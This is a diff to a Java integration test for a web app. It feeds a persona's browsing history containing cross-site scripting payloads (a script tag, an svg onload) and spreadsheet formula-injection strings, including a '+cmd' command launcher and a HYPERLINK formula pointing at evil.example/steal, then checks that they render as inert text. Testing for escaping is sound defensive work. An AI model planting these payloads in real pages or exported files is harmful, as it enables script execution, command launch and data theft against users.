@@ -160,13 +160,14 @@ class WebAppIT {
     @Test
     void aPersonaWithHostileTitlesIsRenderedInertly() throws IOException {
         signIn("webmallory");
+        // The three most recent titles are the persona's examples of its one interest: markup and a formula.
         List<String> hostile = List.of(
-                "<script>window.__pwned = 'script'</script> match report",
-                "\"><svg onload=\"window.__pwned = 'svg'\"> highlights",
-                "=HYPERLINK(\"https://evil.example/steal\",\"score\")",
                 "+cmd|' /C calc'!A0 league table",
                 "@SUM(1+1) transfer news",
-                "-2+3 basketball scores");
+                "-2+3 basketball scores",
+                "=HYPERLINK(\"https://evil.example/steal\",\"score\")",
+                "\"><svg onload=\"window.__pwned = 'svg'\"> highlights",
+                "<script>window.__pwned = 'script'</script> match report");
         StringBuilder csv = new StringBuilder("timestamp,title,url,category\n");
         for (int i = 0; i < 60; i++) {
             String title = i < 54 ? "Weekly football review " + i : hostile.get(i - 54);
@@ -188,8 +189,10 @@ class WebAppIT {
         assertThat(browser.findAll("main script, main svg, main img, main iframe, main object")).isEmpty();
         assertThat(browser.findAll("[onload], [onerror], [onclick]")).isEmpty();
         String examples = browser.find("#examples").getText();
-        assertThat(examples).as("markup shows as text").containsAnyOf("<script>", "\"><svg", "=HYPERLINK(", "@SUM(",
-                "+cmd", "-2+3");
+        assertThat(examples).as("markup and formulas show as text")
+                .contains("<script>window.__pwned = 'script'</script> match report")
+                .contains("\"><svg onload=\"window.__pwned = 'svg'\"> highlights")
+                .contains("=HYPERLINK(\"https://evil.example/steal\",\"score\")");
         for (WebElement link : browser.findAll("main a[href]")) {
             String href = link.getAttribute("href");
             assertThat(href).as("every link is the app's own, a download or a clean http(s) URL")
